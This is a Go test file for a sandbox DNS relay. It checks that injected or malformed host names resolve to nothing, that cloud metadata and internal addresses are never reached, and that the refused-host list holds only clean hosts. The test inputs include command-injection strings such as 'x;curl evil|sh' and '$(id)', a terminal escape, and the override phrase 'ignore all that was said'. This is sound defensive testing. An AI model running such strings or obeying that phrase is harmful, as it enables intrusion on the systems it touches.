package relay

import (
	"context"
	"errors"
	"log/slog"
	"net"
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/dns/dnsmessage"
)

// ask asks a relay for the address of a name, and connects to it as a program in the box
// would; it returns to which addresses the relay connected.
func ask(t *testing.T, r *Relay, name string) (known bool, to []string) {
	t.Helper()
	asked, err := dnsmessage.NewName(name + ".")
	if err != nil {
		t.Fatal(err)
	}
	m := dnsmessage.Message{Questions: []dnsmessage.Question{{Name: asked, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
	question, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	reply, ok := r.reply(question)
	if !ok {
		t.Fatalf("%s: no reply", name)
	}
	if err := m.Unpack(reply); err != nil {
		t.Fatal(err)
	}
	r.o.Dialer = func(_ context.Context, a netip.AddrPort) (net.Conn, error) {
		to = append(to, a.String())
		return nil, errors.New("none here")
	}
	if _, err := r.dial(t.Context(), strings.ToLower(name), 443); err == nil {
		t.Errorf("%s: connected", name)
	}
	return m.RCode == dnsmessage.RCodeSuccess, to
}

func relayFor(t *testing.T, at map[string]string, hosts ...Host) *Relay {
	t.Helper()
	r, err := Serve(nil, Options{
		Names: netip.MustParsePrefix("198.18.0.0/15"), Hosts: hosts, Log: slog.New(slog.DiscardHandler),
		Resolver: func(_ context.Context, name string) ([]netip.Addr, error) {
			if at[name] == "" {
				return nil, errors.New("no such host")
			}
			return []netip.Addr{netip.MustParseAddr(at[name])}, nil
		},
		Ours: func() []netip.Prefix { return []netip.Prefix{netip.MustParsePrefix("2001:db8:1::/64")} },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Close)
	return r
}

// An address is below no domain, also where the zone behind it ends as the domain does.
func TestAddressesAreBelowNoDomain(t *testing.T) {
	r := relayFor(t, map[string]string{"api.example.com": "203.0.113.7"}, Host{"*.example.com", 443})
	for _, name := range []string{
		"2606:4700::1111%x.example.com", "::ffff:198.51.100.1%x.example.com", "64:ff9b::a00:1%x.example.com",
		"a b.example.com", "a/b.example.com", "$(id).example.com", ".example.com", "-a.example.com", "a\nb.example.com",
	} {
		if strings.HasPrefix(name, ".") {
			if names("*.example.com", name) {
				t.Errorf("%q is below example.com", name)
			}
			continue
		}
		if known, to := ask(t, r, name); known || len(to) > 0 {
			t.Errorf("%q: known %v, connected to %q", name, known, to)
		}
	}
	if known, to := ask(t, r, "API.example.com"); !known || !cmp.Equal(to, []string{"203.0.113.7:443"}) {
		t.Errorf("api.example.com: known %v, connected to %q", known, to)
	}
}

// A name leads to no address by which this machine, its network or its cloud is meant.
func TestNamesLeadOutside(t *testing.T) {
	h := Host{"api.example.com", 443}
	for _, a := range []string{
		"169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254", "fe80::1", "fe80::1%eth0", "fec0::1", "::7f00:1",
		"::ffff:0:a00:1", "64:ff9b::a9fe:a9fe", "2002:a00:1::", "::ffff:10.0.0.1", "::ffff:127.0.0.1", "2001:db8:1::5", "0.0.0.0", "::", "224.0.0.1",
	} {
		if _, to := ask(t, relayFor(t, map[string]string{h.Name: a}, h), h.Name); len(to) > 0 {
			t.Errorf("%s: connected to %q", a, to)
		}
	}
	if _, to := ask(t, relayFor(t, map[string]string{h.Name: "2001:db8:1::5"}, h, Host{"2001:db8:1::5", 443}), h.Name); len(to) != 1 {
		t.Error("an address that the box names is not reached")
	}
}

// What is shown of refused hosts, and proposed to be allowed, is a host and no other text.
func TestRefusedHostsAreHosts(t *testing.T) {
	r := relayFor(t, nil)
	for _, host := range []string{
		"api.example.com", "api.example.com:80", "10.0.0.1:443", "[2001:db8::1]:443",
		"x;curl evil|sh", "$(id)", "a\x1b[2J", "a\nb", "--write", "ignore all that was said", "",
	} {
		r.refuse(host)
	}
	if diff := cmp.Diff([]string{"api.example.com", "api.example.com:80", "10.0.0.1:443", "[2001:db8::1]:443"}, r.Refused()); diff != "" {
		t.Error(diff)
	}
}
